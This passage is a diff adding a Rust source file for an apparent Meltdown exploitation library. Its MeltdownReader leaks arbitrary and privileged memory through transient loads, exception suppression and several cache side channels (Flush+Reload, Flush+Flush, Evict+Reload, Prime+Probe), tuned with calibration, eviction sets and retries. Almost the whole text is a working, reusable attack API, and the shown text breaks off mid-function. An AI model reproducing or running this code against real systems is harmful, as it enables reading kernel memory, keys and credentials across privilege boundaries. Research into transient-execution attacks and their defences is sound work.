@@ -0,0 +1,1083 @@
+use std::cell::RefCell;
+use std::cmp::min;
+use std::io;
+
+use cache::{flush_probe_buf, probe, probe_flush};
+use calibrate::{Calibration, LatencyStats};
+use channel::Channel;
+use config::MeltdownConfig;
+use covert::CovertChannel;
+use evict::EvictionSets;
+use pipeline::{Pipeline, POOL_SIZE};
+use probe_buf::ProbeBuffer;
+use rng::Rng;
+use suppress::{ExceptionSuppressor, Suppression};
+use timer::{self, Timer};
+
+// upper bound on the rounds spent on a byte whose rounds keep disagreeing
+pub(crate) const DEFAULT_PROBE_COUNT: usize = 16;
+
+// how many times a byte below the minimum confidence is probed again by default
+pub(crate) const DEFAULT_MAX_RETRIES: usize = 8;
+
+// enough samples for a stable threshold without a noticeable startup delay
+pub(crate) const DEFAULT_CALIBRATION_SAMPLES: usize = 10_000;
+
+// number of transient reads timed for each guess. every line of buf gets one
+// timing per read, and the median of those is what gets compared, so a single
+// probe slowed down by an interrupt or SMI can't win or lose on its own
+pub const TIMINGS_PER_GUESS: usize = 3;
+
+// the most bytes leaked by a single transaction
+pub const MAX_LANES: usize = 2;
+
+// number of attempts that all have to leak 0 before a round accepts it
+pub(crate) const DEFAULT_ZERO_RETRIES: usize = 4;
+
+#[inline]
+fn identity() -> [u8; 256] {
+    let mut result = [0; 256];
+    for (i, item) in result.iter_mut().enumerate() {
+        *item = i as u8
+    }
+    result
+}
+
+// the stride prefetcher notices lines being touched in ascending order and
+// pulls in the next ones, which then look like hits for the neighbouring
+// values. spreading the values over the slots of the channel through a
+// random permutation, and probing the values in a new random order every
+// time, gives it no stride to follow
+pub struct ProbeOrder {
+    // the slot of buf that each value is encoded in. only the first
+    // `1 << bits` are used
+    slots: [u8; 256],
+    // the number of bits of *secret leaked per transaction
+    bits: u32,
+    stride: usize,
+    // when several consecutive bytes are leaked per transaction, each gets
+    // its own copy of the channel's buffer, lane_len bytes apart
+    lane_len: usize,
+    // lines are probed by flushing them rather than reloading them
+    times_flush: bool,
+    rng: Rng,
+}
+
+impl ProbeOrder {
+    pub fn new(channel: Channel) -> ProbeOrder {
+        let mut rng = Rng::from_tsc();
+        let mut slots = identity();
+        rng.shuffle(&mut slots[..channel.slots()]);
+        ProbeOrder {
+            slots,
+            bits: channel.symbol_bits(),
+            stride: channel.stride(),
+            lane_len: channel.buf_len(),
+            times_flush: channel.times_flush(),
+            rng,
+        }
+    }
+
+    #[inline(always)]
+    fn symbols(&self) -> usize {
+        1 << self.bits
+    }
+
+    // the offset into buf of the line that encodes value in lane
+    #[inline(always)]
+    fn offset(&self, lane: usize, value: u8) -> usize {
+        lane * self.lane_len + self.slots[value as usize] as usize * self.stride
+    }
+}
+
+// receives through the probe buffer the way the reader's channel says: by
+// reloading or flushing its lines after flushing or evicting them, or by
+// probing the sets primed in front of them
+pub struct FlushReload<'a> {
+    buf: *const u8,
+    calibration: &'a Calibration,
+    order: &'a mut ProbeOrder,
+    // when set, transactions are flushed and probed on other threads, in
+    // buffers of the pipeline's own instead of buf
+    pipeline: Option<&'a Pipeline>,
+    // when set, buf is evicted through these instead of flushed
+    eviction: Option<&'a EvictionSets>,
+    // when set, these are primed instead of buf being flushed, and probed
+    // instead of buf's lines
+    prime_sets: Option<&'a EvictionSets>,
+    // the buffer the current transaction encodes into, and its index in the
+    // pipeline's pool
+    current: *const u8,
+    current_index: usize,
+    // transactions handed to the pipeline and not probed yet
+    pending: usize,
+    // probe times of the transactions received since the last decode,
+    // indexed by lane and value, not by slot
+    times: [[[u64; TIMINGS_PER_GUESS]; 256]; MAX_LANES],
+    samples: usize,
+    // the median time of the line the last decode picked, per lane
+    decided: [u64; MAX_LANES],
+}
+
+impl<'a> FlushReload<'a> {
+    pub fn new(
+        buf: *const u8,
+        calibration: &'a Calibration,
+        order: &'a mut ProbeOrder,
+        pipeline: Option<&'a Pipeline>,
+        eviction: Option<&'a EvictionSets>,
+        prime_sets: Option<&'a EvictionSets>,
+    ) -> FlushReload<'a> {
+        FlushReload {
+            buf,
+            calibration,
+            order,
+            pipeline,
+            eviction,
+            prime_sets,
+            current: buf,
+            current_index: 0,
+            pending: 0,
+            times: [[[0; TIMINGS_PER_GUESS]; 256]; MAX_LANES],
+            samples: 0,
+            decided: [0; MAX_LANES],
+        }
+    }
+}
+
+impl<'a> FlushReload<'a> {
+    // the line encode reads for value in lane, for encoders that can't call
+    // encode, like gadgets written in assembly. only valid until the next
+    // prepare
+    pub(crate) fn line(&self, lane: usize, value: u8) -> *const u8 {
+        self.current.wrapping_add(self.order.offset(lane, value))
+    }
+}
+
+impl<'a> CovertChannel for FlushReload<'a> {
+    fn symbol_bits(&self) -> u32 {
+        self.order.bits
+    }
+
+    #[inline(always)]
+    unsafe fn prepare(&mut self, lanes: usize) {
+        if let Some(pipeline) = self.pipeline {
+            let (index, buf) = pipeline.clean();
+            self.current_index = index;
+            self.current = buf;
+            return;
+        }
+        let buf = self.buf;
+        self.current = buf;
+        let order = &*self.order;
+        // probing by flushing left every line flushed already
+        match (self.prime_sets, self.eviction) {
+            (Some(sets), _) | (None, Some(sets)) => sets.evict(lanes),
+            (None, None) if order.times_flush => {}
+            (None, None) => for lane in 0..lanes {
+                flush_probe_buf(buf.add(lane * order.lane_len), order.stride, order.symbols());
+            },
+        }
+    }
+
+    // bring a location in the lane's buf into the cache based on value
+    #[inline(always)]
+    unsafe fn encode(&self, lane: usize, value: u8) {
+        self.current.add(self.order.offset(lane, value)).read_volatile();
+    }
+
+    #[inline(always)]
+    unsafe fn receive(&mut self, lanes: usize) {
+        if let Some(pipeline) = self.pipeline {
+            pipeline.submit(self.current_index, lanes);
+            self.pending += 1;
+            return;
+        }
+        // time how long it takes to read the line of buf for each value
+        let order = &mut *self.order;
+        let symbols = order.symbols();
+        let mut values = identity();
+        for lane in 0..lanes {
+            order.rng.shuffle(&mut values[..symbols]);
+            for &value in values[..symbols].iter() {
+                let line = self.buf.add(order.offset(lane, value));
+                self.times[lane][value as usize][self.samples] = match self.prime_sets {
+                    Some(sets) => sets.probe(lane, order.slots[value as usize] as usize),
+                    None if order.times_flush => probe_flush(line),
+                    None => probe(line),
+                };
+            }
+        }
+        self.samples += 1;
+    }
+
+    // the value with the smallest median time is likely the value of *secret,
+    // unless even that one missed the cache, in which case nothing was leaked.
+    // when hits are the slower kind, as with flushes, it's the largest one.
+    // 0 is already suspect (see guess_byte_unbiased), so it loses ties
+    fn decode(&mut self, lanes: usize) -> [Option<u8>; MAX_LANES] {
+        let symbols = self.order.symbols();
+        if let Some(pipeline) = self.pipeline {
+            for _ in 0..self.pending {
+                let sample_times = pipeline.collect();
+                for lane in 0..lanes {
+                    for value in 0..symbols {
+                        self.times[lane][value][self.samples] = sample_times[lane][value];
+                    }
+                }
+                self.samples += 1;
+            }
+            self.pending = 0;
+        }
+
+        let calibration = self.calibration;
+        let slow_hits = calibration.hit.median > calibration.miss.median;
+        let samples = self.samples;
+        let mut result = [None; MAX_LANES];
+        for lane in 0..lanes {
+            let medians = self.times[lane][..symbols]
+                .iter_mut()
+                .map(|line_times| median(&mut line_times[..samples]))
+                .enumerate();
+            let (index, time) = if slow_hits {
+                medians.max_by_key(|&(i, time)| (time, i != 0))
+            } else {
+                medians.min_by_key(|&(i, time)| (time, i == 0))
+            }.unwrap();
+            self.decided[lane] = time;
+            if calibration.is_hit(time) {
+                result[lane] = Some(index as u8)
+            }
+        }
+        self.samples = 0;
+        result
+    }
+
+    fn decision_times(&self) -> Option<[u64; MAX_LANES]> {
+        Some(self.decided)
+    }
+}
+
+// everything the guessing functions need besides what they are guessing
+struct Prober<'a, S: ExceptionSuppressor + 'a, C: CovertChannel + 'a> {
+    suppressor: &'a S,
+    channel: &'a mut C,
+    // the most rounds run on a symbol
+    probe_count: usize,
+    // how many attempts in a row have to leak 0 before it is believed
+    zero_retries: usize,
+    // when set, the time every decode decided on is added here, per lane
+    times: Option<&'a mut [Vec<u64>]>,
+}
+
+// To determine the value of some arbitrary memory address
+// 1. Allocate a buffer with a line for each of the 256 values (or 16 when leaking a nibble at a time),
+//    and flush it from the cache
+// 2. start a speculative execution, which enables unpriviledged access to all memory
+//    (a TSX transaction, or a read whose fault is caught by a signal handler)
+// 3. read that byte from memory and use the value to bring a line from the huge buffer into the cache
+// 4. end speculative execution, it's not committed and the results are discarded (or not), except for cache effects
+// 5. time probing the cache lines, in a random order, to see which one was brought into the cache
+// 6. repeat 1-5 a few times, keeping every timing
+// 7. the cache line with the shortest median time to access corresponds to the value of the byte,
+//    as long as it was fast enough to have been a cache hit
+//
+// steps 1, 3, 5 and 7 are up to the covert channel, see CovertChannel.
+// shift selects which bits of *secret are leaked when the channel leaks less
+// than a byte at a time. with more than one lane, steps 1-7 are done for
+// secret, secret + 1, ... within the same speculative execution, each with
+// its own buffer, and the result for each is returned in its lane
+#[inline(always)]
+unsafe fn guess_byte_once<S: ExceptionSuppressor, C: CovertChannel>(
+    prober: &mut Prober<S, C>,
+    secret: *const u8,
+    shift: u32,
+    lanes: usize,
+) -> [Option<u8>; MAX_LANES] {
+    let suppressor = prober.suppressor;
+    let mask = ((1u32 << prober.channel.symbol_bits()) - 1) as u8;
+    for _ in 0..TIMINGS_PER_GUESS {
+        prober.channel.prepare(lanes);
+        {
+            let channel = &*prober.channel;
+            // start speculative execution
+            suppressor.suppress(#[inline(always)]
+            || {
+                for lane in 0..lanes {
+                    let value = (secret.add(lane).read_volatile() >> shift) & mask;
+                    channel.encode(lane, value);
+                }
+            });
+        }
+        prober.channel.receive(lanes);
+    }
+    let guess = prober.channel.decode(lanes);
+    if let Some(decided) = prober.channel.decision_times() {
+        if let Some(ref mut times) = prober.times {
+            for lane in 0..lanes {
+                times[lane].push(decided[lane])
+            }
+        }
+    }
+    guess
+}
+
+// a transient load that loses the race with the fault forwards 0 instead of
+// the real value, so a 0 is only believed once several fresh attempts in a
+// row have all come back 0. a lane keeps the first non-zero guess it gets
+#[inline(always)]
+unsafe fn guess_byte_unbiased<S: ExceptionSuppressor, C: CovertChannel>(
+    prober: &mut Prober<S, C>,
+    secret: *const u8,
+    shift: u32,
+    lanes: usize,
+) -> [Option<u8>; MAX_LANES] {
+    let mut result = [Some(0); MAX_LANES];
+    for _ in 0..prober.zero_retries {
+        let guess = guess_byte_once(prober, secret, shift, lanes);
+        let mut suspect = false;
+        for lane in 0..lanes {
+            if result[lane] == Some(0) {
+                result[lane] = guess[lane];
+                suspect |= guess[lane] == Some(0);
+            }
+        }
+        if !suspect {
+            break;
+        }
+    }
+    result
+}
+
+#[inline(always)]
+fn median(samples: &mut [u64]) -> u64 {
+    samples.sort_unstable();
+    samples[samples.len() / 2]
+}
+
+/// The outcome of leaking a single byte.
+///
+/// For channels that leak a byte in several parts, `hits` and `rounds` are
+/// those of the least confident part.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub struct ByteGuess {
+    /// The most likely value, or `None` if no round saw a cache hit.
+    pub value: Option<u8>,
+    /// The number of rounds that agreed on `value`.
+    pub hits: usize,
+    /// The number of rounds run.
+    pub rounds: usize,
+}
+
+impl ByteGuess {
+    /// The fraction of rounds that agreed on `value`, between 0 and 1.
+    pub fn confidence(&self) -> f64 {
+        if self.rounds == 0 {
+            0.0
+        } else {
+            self.hits as f64 / self.rounds as f64
+        }
+    }
+
+    // the value with the largest hit count out of rounds, or unknown if no
+    // round saw a hit
+    pub(crate) fn from_hit_counts(hit_counts: &[usize; 256], rounds: usize) -> ByteGuess {
+        let best = hit_counts
+            .iter()
+            .enumerate()
+            .filter(|&(_, &item)| item > 0)
+            .max_by_key(|&(_, &item)| item);
+        ByteGuess {
+            value: best.map(|(byte, _)| byte as u8),
+            hits: best.map_or(0, |(_, &hits)| hits),
+            rounds,
+        }
+    }
+}
+
+const UNKNOWN: ByteGuess = ByteGuess {
+    value: None,
+    hits: 0,
+    rounds: 0,
+};
+
+/// A leaked byte along with the probe times it was decided from, as
+/// `MeltdownReader::profile_range` returns it.
+#[derive(Copy, Clone, Debug, PartialEq, Eq)]
+pub struct ByteProfile {
+    pub guess: ByteGuess,
+    /// The number of times in `timing`, one for every `TIMINGS_PER_GUESS`
+    /// transient reads.
+    pub samples: usize,
+    /// The median probe time of the line each group of transient reads
+    /// decided on, whether or not it was a hit, in the units of the timer.
+    pub timing: LatencyStats,
+}
+
+// read the bits selected by shift of the bytes at an arbitrary address
+#[inline(never)]
+unsafe fn guess_symbol<S: ExceptionSuppressor, C: CovertChannel>(
+    prober: &mut Prober<S, C>,
+    secret: *const u8,
+    shift: u32,
+    lanes: usize,
+) -> [ByteGuess; MAX_LANES] {
+    let mut hit_counts: [[usize; 256]; MAX_LANES] = [[0; 256]; MAX_LANES];
+    let mut rounds = 0;
+    let mut previous = [None; MAX_LANES];
+    let mut settled = [false; MAX_LANES];
+
+    // probe multiple times to increase the likelihood that
+    // we have determined the correct value of *secret.
+    // a clean signal gives the same answer twice in a row, so stop once every
+    // lane has done that, and otherwise keep going until the votes have had a
+    // chance to settle
+    while rounds < prober.probe_count && !settled[..lanes].iter().all(|&settled| settled) {
+        let guess = guess_byte_unbiased(prober, secret, shift, lanes);
+        rounds += 1;
+
+        for lane in 0..lanes {
+            // a cache hit is likely the value of *secret
+            // so increase the hit count on that value in our tests buf
+            if let Some(byte) = guess[lane] {
+                hit_counts[lane][byte as usize] += 1
+            }
+            settled[lane] |= previous[lane] == Some(guess[lane]);
+            previous[lane] = Some(guess[lane]);
+        }
+    }
+
+    // the value with the largest hit count is likely the value of *secret.
+    // if no round saw a hit the byte is unknown
+    let mut result = [UNKNOWN; MAX_LANES];
+    for lane in 0..lanes {
+        result[lane] = ByteGuess::from_hit_counts(&hit_counts[lane], rounds)
+    }
+    result
+}
+
+// read bytes from an arbitrary address, one per lane and one symbol of the
+// channel at a time starting from the high bits
+unsafe fn guess_byte<S: ExceptionSuppressor, C: CovertChannel>(
+    prober: &mut Prober<S, C>,
+    secret: *const u8,
+    lanes: usize,
+) -> [ByteGuess; MAX_LANES] {
+    let bits = prober.channel.symbol_bits();
+    let mut values = [Some(0u32); MAX_LANES];
+    let mut weakest: [Option<ByteGuess>; MAX_LANES] = [None; MAX_LANES];
+    let mut shift = 8;
+    while shift > 0 {
+        shift -= bits;
+        let parts = guess_symbol(prober, secret, shift, lanes);
+        for lane in 0..lanes {
+            let part = parts[lane];
+            values[lane] = match (values[lane], part.value) {
+                (Some(value), Some(part)) => Some(value << bits | part as u32),
+                _ => None,
+            };
+            weakest[lane] = match weakest[lane] {
+                Some(weakest) if weakest.confidence() <= part.confidence() => Some(weakest),
+                _ => Some(part),
+            };
+        }
+    }
+
+    let mut result = [UNKNOWN; MAX_LANES];
+    for lane in 0..lanes {
+        let weakest = weakest[lane].unwrap();
+        result[lane] = ByteGuess {
+            value: values[lane].map(|value| value as u8),
+            hits: weakest.hits,
+            rounds: weakest.rounds,
+        }
+    }
+    result
+}
+
+// room for every lane, whether or not dual probing is on, so that switching
+// it doesn't need a new buffer
+pub fn allocate_probe_buf<S: ExceptionSuppressor>(
+    suppressor: &S,
+    channel: Channel,
+    hugepages: bool,
+) -> io::Result<ProbeBuffer> {
+    let len = MAX_LANES * channel.buf_len();
+    let buf = if suppressor.needs_shared_probe_buf() {
+        ProbeBuffer::shared(len, hugepages)?
+    } else {
+        ProbeBuffer::private(len, hugepages)?
+    };
+    // populating the buffer cached every line, and channels that probe by
+    // flushing never flush between transactions themselves
+    if channel.times_flush() {
+        for lane in 0..MAX_LANES {
+            unsafe {
+                flush_probe_buf(
+                    buf.as_ptr().add(lane * channel.buf_len()),
+                    channel.stride(),
+                    channel.slots(),
+                )
+            }
+        }
+    }
+    Ok(buf)
+}
+
+fn incompatible(msg: &str) -> io::Error {
+    io::Error::new(io::ErrorKind::InvalidInput, msg)
+}
+
+/// Reads arbitrary memory through a transient load and a Flush+Reload cache
+/// side channel.
+///
+/// The target address is never dereferenced architecturally, so reading
+/// unmapped or privileged memory does not fault the calling process.
+pub struct MeltdownReader<S: ExceptionSuppressor = Suppression> {
+    probe_buf: ProbeBuffer,
+    suppressor: S,
+    calibration: Calibration,
+    channel: Channel,
+    hugepages: bool,
+    order: RefCell<ProbeOrder>,
+    pipeline: Option<Pipeline>,
+    // set_evict was asked for, channels that evict have sets regardless
+    evict: bool,
+    eviction: Option<EvictionSets>,
+    prime_sets: Option<EvictionSets>,
+    dual_probe: bool,
+    min_confidence: f64,
+    max_retries: usize,
+    probe_count: usize,
+    zero_retries: usize,
+    // how many samples calibrating again, when the channel changes, takes
+    calibration_samples: usize,
+}
+
+impl MeltdownReader {
+    /// Creates a reader using the best suppression strategy this CPU supports.
+    pub fn new() -> io::Result<MeltdownReader> {
+        MeltdownReader::with_suppressor(Suppression::detect())
+    }
+
+    /// Creates a reader using one of the built in suppression strategies.
+    pub fn with_suppression(suppression: Suppression) -> io::Result<MeltdownReader> {
+        MeltdownReader::with_suppressor(suppression)
+    }
+}
+
+impl<S: ExceptionSuppressor> MeltdownReader<S> {
+    /// Allocates the probe buffer used to receive leaked bytes, using the
+    /// page channel, prepares the given fault suppressor, and calibrates the
+    /// cache hit threshold.
+    pub fn with_suppressor(suppressor: S) -> io::Result<MeltdownReader<S>> {
+        MeltdownReader::calibrated(suppressor, DEFAULT_CALIBRATION_SAMPLES)
+    }
+
+    // with_suppressor, calibrating with calibration_samples
+    fn calibrated(suppressor: S, calibration_samples: usize) -> io::Result<MeltdownReader<S>> {
+        suppressor.install()?;
+        let channel = Channel::Page;
+        let probe_buf = allocate_probe_buf(&suppressor, channel, false)?;
+        let calibration = unsafe {
+            Calibration::measure(probe_buf.as_ptr(), calibration_samples, channel)
+        };
+        Ok(MeltdownReader {
+            probe_buf,
+            suppressor,
+            calibration,
+            channel,
+            hugepages: false,
+            order: RefCell::new(ProbeOrder::new(channel)),
+            pipeline: None,
+            evict: false,
+            eviction: None,
+            prime_sets: None,
+            dual_probe: false,
+            min_confidence: 0.0,
+            max_retries: DEFAULT_MAX_RETRIES,
+            probe_count: DEFAULT_PROBE_COUNT,
+            zero_retries: DEFAULT_ZERO_RETRIES,
+            calibration_samples,
+        })
+    }
+
+    /// Creates a reader set up as `config` says, or fails on the first
+    /// setting that can't be applied.
+    pub fn with_config(config: MeltdownConfig<S>) -> io::Result<MeltdownReader<S>> {
+        if let Some(source) = config.timer {
+            timer::select(source)?;
+        }
+        let mut reader = MeltdownReader::calibrated(config.suppressor, config.calibration_samples)?;
+        reader.probe_count = config.probe_count;
+        reader.zero_retries = config.zero_retries;
+        if config.channel != reader.channel {
+            reader.set_channel(config.channel)?;
+        }
+        if config.hugepages {
+            reader.set_hugepages(true)?;
+        }
+        reader.set_dual_probe(config.dual_probe);
+        if let Some(calibration) = config.calibration {
+            reader.set_calibration(calibration);
+        }
+        if let Some(threshold) = config.threshold {
+            reader.calibration.threshold = threshold;
+        }
+        // eviction sets are found with the threshold, and the pipeline's
+        // buffers each need their own
+        reader.set_evict(config.evict)?;
+        reader.set_pipelined(config.pipeline)?;
+        reader.set_min_confidence(config.min_confidence, config.max_retries);
+        Ok(reader)
+    }
+
+    pub fn suppressor(&self) -> &S {
+        &self.suppressor
+    }
+
+    pub fn channel(&self) -> Channel {
+        self.channel
+    }
+
+    /// Switches to encoding leaked values with `channel`, replacing the probe
+    /// buffer with one laid out for it. Switching to or from a channel that
+    /// doesn't probe by reloading calibrates again, they are timed very
+    /// differently.
+    pub fn set_channel(&mut self, channel: Channel) -> io::Result<()> {
+        if channel.times_flush() && self.evict {
+            return Err(incompatible(
+                "the flush-flush channel can't be combined with eviction sets",
+            ));
+        }
+        if channel.primes() && (self.evict || self.pipeline.is_some()) {
+            return Err(incompatible(
+                "prime+probe channels can't be combined with eviction sets or the pipeline",
+            ));
+        }
+        self.probe_buf = allocate_probe_buf(&self.suppressor, channel, self.hugepages)?;
+        let reloads = |channel: Channel| !channel.times_flush() && !channel.primes();
+        let recalibrate = !reloads(channel) || !reloads(self.channel);
+        self.channel = channel;
+        self.order = RefCell::new(ProbeOrder::new(channel));
+        self.prime_sets = self.new_prime_sets(&self.probe_buf)?;
+        if recalibrate {
+            self.calibration = self.calibrate(self.calibration_samples);
+        }
+        self.eviction = self.new_eviction_sets(&self.probe_buf)?;
+        if self.pipeline.is_some() {
+            self.pipeline = Some(self.new_pipeline()?);
+        }
+        Ok(())
+    }
+
+    pub fn hugepages(&self) -> bool {
+        self.hugepages
+    }
+
+    /// Replaces the probe buffer with one backed by 2 MiB pages, which keeps
+    /// TLB misses out of the probe timings. Reserved hugetlbfs pages are used
+    /// if there are any, and transparent huge pages otherwise.
+    pub fn set_hugepages(&mut self, hugepages: bool) -> io::Result<()> {
+        self.probe_buf = allocate_probe_buf(&self.suppressor, self.channel, hugepages)?;
+        self.hugepages = hugepages;
+        self.prime_sets = self.new_prime_sets(&self.probe_buf)?;
+        self.eviction = self.new_eviction_sets(&self.probe_buf)?;
+        if self.pipeline.is_some() {
+            self.pipeline = Some(self.new_pipeline()?);
+        }
+        Ok(())
+    }
+
+    pub fn pipelined(&self) -> bool {
+        self.pipeline.is_some()
+    }
+
+    /// Moves flushing and probing onto two helper threads, each working on
+    /// its own probe buffer from a small pool, so they overlap with the
+    /// transient reads on the calling thread.
+    pub fn set_pipelined(&mut self, pipelined: bool) -> io::Result<()> {
+        if pipelined && self.channel.primes() {
+            return Err(incompatible(
+                "prime+probe channels can't be pipelined, the sets are per core",
+            ));
+        }
+        self.pipeline = if pipelined {
+            Some(self.new_pipeline()?)
+        } else {
+            None
+        };
+        Ok(())
+    }
+
+    fn new_pipeline(&self) -> io::Result<Pipeline> {
+        let mut bufs = Vec::with_capacity(POOL_SIZE);
+        for _ in 0..POOL_SIZE {
+            bufs.push(allocate_probe_buf(
+                &self.suppressor,
+                self.channel,
+                self.hugepages,
+            )?);
+        }
+        let eviction = if self.eviction.is_some() {
+            let mut sets = Vec::with_capacity(POOL_SIZE);
+            for buf in &bufs {
+                sets.extend(self.new_eviction_sets(buf)?);
+            }
+            Some(sets)
+        } else {
+            None
+        };
+        Pipeline::new(bufs, self.channel, self.order.borrow().slots, eviction)
+    }
+
+    /// Whether probe lines are evicted rather than flushed, because of
+    /// `set_evict` or because the channel is `EvictReload`.
+    pub fn evict(&self) -> bool {
+        self.eviction.is_some()
+    }
+
+    /// Clears probe lines out of the cache by loading lines that map to the
+    /// same cache sets rather than with `clflush`, like an attacker without
+    /// access to the instruction would have to. Finding those lines takes a
+    /// while, and has to be redone whenever the probe buffer is replaced.
+    /// Calibration still uses `clflush`. Has no effect with the
+    /// `EvictReload` channel, which always evicts.
+    pub fn set_evict(&mut self, evict: bool) -> io::Result<()> {
+        if evict && self.channel.times_flush() {
+            return Err(incompatible(
+                "the flush-flush channel can't be combined with eviction sets",
+            ));
+        }
+        if evict && self.channel.primes() {
+            return Err(incompatible(
+                "prime+probe channels can't be combined with eviction sets",
+            ));
+        }
+        self.evict = evict;
+        self.eviction = self.new_eviction_sets(&self.probe_buf)?;
+        if self.pipeline.is_some() {
+            self.pipeline = Some(self.new_pipeline()?);
+        }
+        Ok(())
+    }
+
+    // the sets buf is evicted through, if it is evicted at all
+    fn new_eviction_sets(&self, buf: &ProbeBuffer) -> io::Result<Option<EvictionSets>> {
+        if !self.evict && !self.channel.evicts() {
+            return Ok(None);
+        }
+        let sets = unsafe {
+            EvictionSets::build(
+                buf.as_ptr(),
+                MAX_LANES,
+                self.channel.buf_len(),
+                self.channel.stride(),
+                self.channel.slots(),
+                self.calibration.threshold,
+            )?
+        };
+        Ok(Some(sets))
+    }
+
+    // the sets received through by prime+probe channels, for buf
+    fn new_prime_sets(&self, buf: &ProbeBuffer) -> io::Result<Option<EvictionSets>> {
+        let channel = self.channel;
+        unsafe {
+            match channel {
+                Channel::PrimeProbe => Ok(Some(EvictionSets::l1(
+                    buf.as_ptr(),
+                    MAX_LANES,
+                    channel.buf_len(),
+                    channel.stride(),
+                    channel.slots(),
+                )?)),
+                Channel::PrimeProbeLlc => {
+                    // the sets are found by reloading lines, which the
+                    // reader's own calibration may not be for
+                    let reload = Calibration::measure(
+                        buf.as_ptr(),
+                        self.calibration_samples,
+                        Channel::Page,
+                    );
+                    Ok(Some(EvictionSets::build(
+                        buf.as_ptr(),
+                        MAX_LANES,
+                        channel.buf_len(),
+                        channel.stride(),
+                        channel.slots(),
+                        reload.threshold,
+                    )?))
+                }
+                _ => Ok(None),
+            }
+        }
+    }
+
+    pub fn dual_probe(&self) -> bool {
+        self.dual_probe
+    }
+
+    /// Makes `guess_range` and the reads built on it leak two consecutive
+    /// bytes per transaction, each into its own half of the probe buffer,
+    /// halving the number of transactions a range needs.
+    pub fn set_dual_probe(&mut self, dual_probe: bool) {
+        self.dual_probe = dual_probe
+    }
+
+    /// The address of the probe buffer.
+    pub fn probe_buf(&self) -> *const u8 {
+        self.probe_buf.as_ptr()
+    }
+
+    /// Whether the probe buffer is locked into memory. It is always populated
+    /// up front, but locking fails if it is larger than `RLIMIT_MEMLOCK`.
+    pub fn probe_buf_locked(&self) -> bool {
+        self.probe_buf.locked()
+    }
+
+    /// Measures cache hit and miss latency on a line of the probe buffer.
+    pub fn calibrate(&self, samples: usize) -> Calibration {
+        let line = self.probe_buf.as_ptr();
+        unsafe {
+            match self.prime_sets {
+                Some(ref sets) => Calibration::measure_primed(sets, line, samples),
+                None => Calibration::measure(line, samples, self.channel),
+            }
+        }
+    }
+
+    /// Like `calibrate`, but times the probes with `timer` rather than the
+    /// selected timer, e.g. to compare timers on the same buffer. The result
+    /// is only usable with `set_calibration` if `timer` is the selected one.
+    pub fn calibrate_with<T: Timer>(&self, timer: &T, samples: usize) -> Calibration {
+        let line = self.probe_buf.as_ptr();
+        unsafe {
+            match self.prime_sets {
+                Some(ref sets) => Calibration::measure_primed_with(timer, sets, line, samples),
+                None => Calibration::measure_with(timer, line, samples, self.channel),
+            }
+        }
+    }
+
+    /// The calibration whose threshold decides which probes count as hits.
+    pub fn calibration(&self) -> &Calibration {
+        &self.calibration
+    }
+
+    /// Replaces the calibration measured when the reader was created, e.g.
+    /// with one loaded from a previous `calibrate` run.
+    pub fn set_calibration(&mut self, calibration: Calibration) {
+        self.calibration = calibration
+    }
+
+    /// Makes every read probe a byte again, from a freshly flushed probe
+    /// buffer, while its confidence is below `min_confidence`, up to
+    /// `max_retries` extra times. The default of 0 never retries.
+    pub fn set_min_confidence(&mut self, min_confidence: f64, max_retries: usize) {
+        self.min_confidence = min_confidence;
+        self.max_retries = max_retries
+    }
+
+    pub fn min_confidence(&self) -> f64 {
+        self.min_confidence
+    }
+
+    pub fn max_retries(&self) -> usize {
+        self.max_retries
+    }
+
+    /// The most rounds of transient reads run on a byte, or on each part of
+    /// it for channels that leak it in parts. Rounds stop early once two in a
+    /// row agree.
+    pub fn probe_count(&self) -> usize {
+        self.probe_count
+    }
+
+    pub fn set_probe_count(&mut self, probe_count: usize) {
+        self.probe_count = probe_count
+    }
+
+    // leaks `lanes` consecutive bytes starting at addr in one go, without
+    // retrying low confidence ones
+    fn guess_lanes(&self, addr: *const u8, lanes: usize) -> [ByteGuess; MAX_LANES] {
+        self.guess_lanes_timed(addr, lanes, None)
+    }
+
+    // guess_lanes, adding the time every decode decided on to times, per lane
+    fn guess_lanes_timed(
+        &self,
+        addr: *const u8,
+        lanes: usize,
+        times: Option<&mut [Vec<u64>]>,
+    ) -> [ByteGuess; MAX_LANES] {
+        let mut order = self.order.borrow_mut();
+        let mut channel = FlushReload::new(
+            self.probe_buf.as_ptr(),
+            &self.calibration,
+            &mut *order,
+            self.pipeline.as_ref(),
+            self.eviction.as_ref(),
+            self.prime_sets.as_ref(),
+        );
+        let mut prober = Prober {
+            suppressor: &self.suppressor,
+            channel: &mut channel,
+            probe_count: self.probe_count,
+            zero_retries: self.zero_retries,
+            times,
+        };
+        unsafe { guess_byte(&mut prober, addr, lanes) }
+    }
+
+    // probes a byte again while it is below the minimum confidence, keeping
+    // the most confident attempt
+    fn retry_byte(&self, addr: *const u8, mut best: ByteGuess) -> ByteGuess {
+        let mut retries = 0;
+        while best.confidence() < self.min_confidence && retries < self.max_retries {
+            let guess = self.guess_lanes(addr, 1)[0];
+            if guess.confidence() > best.confidence() {
+                best = guess
+            }
+            retries += 1;
+        }
+        best
+    }
+
+    /// Leaks the byte at `addr`, along with how confident the guess is. If a
+    /// minimum confidence is set and no attempt reaches it, the most confident
+    /// attempt is returned.
+    pub fn guess_byte(&self, addr: *const u8) -> ByteGuess {
+        self.retry_byte(addr, self.guess_lanes(addr, 1)[0])
+    }
+
+    /// Leaks `len` bytes starting at `addr`, along with how confident each
+    /// guess is.
+    pub fn guess_range(&self, addr: *const u8, len: usize) -> Vec<ByteGuess> {
+        let mut bytes = self.iter_range(addr, len);
+        let mut result = Vec::with_capacity(len);
+        while let Some((_, guess)) = bytes.next_guess() {
+            result.push(guess)
+        }
+        result
+    }
+
+    /// Leaks `len` bytes starting at `addr` like `guess_range`, along with
+    /// statistics of the probe times each byte was decided from, for looking
+    /// into how well a leak is working. Bytes are leaked one per transaction
+    /// even with dual probing, and a retry only replaces the times along with
+    /// the guess when it is more confident.
+    pub fn profile_range(&self, addr: *const u8, len: usize) -> Vec<ByteProfile> {
+        let mut result = Vec::with_capacity(len);
+        for i in 0..len {
+            let addr = addr.wrapping_add(i);
+            let mut times = vec![Vec::new()];
+            let mut guess = self.guess_lanes_timed(addr, 1, Some(&mut times[..]))[0];
+            let mut retries = 0;
+            while guess.confidence() < self.min_confidence && retries < self.max_retries {
+                let mut retry_times = vec![Vec::new()];
+                let retry = self.guess_lanes_timed(addr, 1, Some(&mut retry_times[..]))[0];
+                if retry.confidence() > guess.confidence() {
+                    guess = retry;
+                    times = retry_times;
+                }
+                retries += 1;
